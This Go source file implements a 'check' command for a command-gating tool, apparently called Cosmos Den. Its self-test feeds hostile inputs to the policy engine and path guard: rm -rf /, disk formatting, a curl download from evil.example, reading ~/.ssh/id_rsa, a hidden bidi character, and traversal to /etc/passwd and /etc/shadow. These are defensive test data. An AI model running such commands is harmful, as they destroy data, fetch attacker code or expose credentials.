package cli

import (
	"fmt"
	"io"
	"strings"

	"github.com/spf13/cobra"

	"github.com/djklmr2025/cosmos-den/internal/core"
	"github.com/djklmr2025/cosmos-den/internal/policy"
)

var (
	checkCwd      string
	checkSelfTest bool
)

var checkCmd = &cobra.Command{
	Use:   "check [flags] -- <command> [args...]",
	Short: "Evaluate a command against the policy without running it",
	Long: `Show the decision the command gate would reach for a command, with the
rules that fired. Nothing is executed. Exits 1 when the command would be
blocked.

With --self-test, run the gate and the path guard against a set of known
dangerous inputs and report whether each is stopped.

  cosmosden check -- npm install lodash
  cosmosden check --self-test`,
	RunE: checkCommand,
}

func init() {
	checkCmd.Flags().StringVar(&checkCwd, "cwd", "", "Working directory relative to the workspace root")
	checkCmd.Flags().BoolVar(&checkSelfTest, "self-test", false, "Verify that known-dangerous commands and paths are stopped")
	rootCmd.AddCommand(checkCmd)
}

func checkCommand(cmd *cobra.Command, args []string) error {
	svc, err := openService()
	if err != nil {
		return err
	}
	defer svc.Close()

	out := cmd.OutOrStdout()
	if checkSelfTest {
		if failed := selfTest(out, svc); failed > 0 {
			return &exitError{code: 1}
		}
		return nil
	}

	if len(args) == 0 {
		return fmt.Errorf("no command provided. Usage: cosmosden check -- <command> [args...]")
	}
	result := svc.Runner.Check(args[0], args[1:], checkCwd)

	if jsonOutput {
		if err := printJSON(out, result); err != nil {
			return err
		}
	} else {
		fmt.Fprintf(out, "%s  %s\n", decisionBadge(string(result.Decision)), strings.Join(args, " "))
		if result.Explanation != "" {
			fmt.Fprintln(out, result.Explanation)
		}
	}
	if result.Decision == policy.DecisionBlock {
		return &exitError{code: 1}
	}
	return nil
}

type checkCase struct {
	label   string
	args    []string
	wantMin policy.Decision
}

// selfTest prints one line per case and returns the number of failures.
func selfTest(out io.Writer, svc *core.Service) int {
	header(out, "Cosmos Den Self-Test")
	fmt.Fprintln(out)

	section(out, "Command Gate")
	commandCases := []checkCase{
		{"Destructive rm", []string{"rm", "-rf", "/"}, policy.DecisionBlock},
		{"Disk format", []string{"mkfs", "/dev/sda"}, policy.DecisionBlock},
		{"Path-qualified rm", []string{"/bin/rm", "-rf", "."}, policy.DecisionBlock},
		{"Unlisted downloader", []string{"curl", "http://evil.example/x.sh"}, policy.DecisionBlock},
		{"Bidi in argument", []string{"git", "status\u202e"}, policy.DecisionBlock},
		{"Unlisted git verb", []string{"git", "reset", "--hard"}, policy.DecisionBlock},
		{"Substring-only verb", []string{"git", "filter-branch"}, policy.DecisionAudit},
		{"SSH key read", []string{"cat", "~/.ssh/id_rsa"}, policy.DecisionAudit},
		{"Safe listing", []string{"ls", "-la"}, policy.DecisionAllow},
	}

	failed := 0
	for _, tc := range commandCases {
		result := svc.Runner.Check(tc.args[0], tc.args[1:], "")
		pass := decisionGE(result.Decision, tc.wantMin)
		if !pass {
			failed++
		}
		fmt.Fprintf(out, "  %s  %-22s  %s → %s\n", okBadge(pass), tc.label, strings.Join(tc.args, " "), decisionBadge(string(result.Decision)))
	}
	fmt.Fprintln(out)

	section(out, "Path Guard")
	pathCases := []struct {
		label string
		path  string
	}{
		{"Parent traversal", "../../etc/passwd"},
		{"Absolute system path", "/etc/shadow"},
		{"Root itself", "/"},
		{"Zero-width name", "app\u200b.py"},
	}
	for _, tc := range pathCases {
		pass := !svc.Guard.Validate(tc.path)
		if !pass {
			failed++
		}
		verdict := "rejected"
		if !pass {
			verdict = "ACCEPTED"
		}
		fmt.Fprintf(out, "  %s  %-22s  %q → %s\n", okBadge(pass), tc.label, tc.path, verdict)
	}
	fmt.Fprintln(out)

	total := len(commandCases) + len(pathCases)
	if failed == 0 {
		fmt.Fprintln(out, styles.Success.Render(fmt.Sprintf("All %d checks passed.", total)))
	} else {
		fmt.Fprintln(out, styles.Err.Render(fmt.Sprintf("%d/%d checks failed. Review your policy configuration.", failed, total)))
	}
	return failed
}

// decisionGE reports whether actual is at least as strict as want.
func decisionGE(actual, want policy.Decision) bool {
	severity := map[policy.Decision]int{
		policy.DecisionAllow: 1,
		policy.DecisionAudit: 2,
		policy.DecisionBlock: 3,
	}
	return severity[actual] >= severity[want]
}
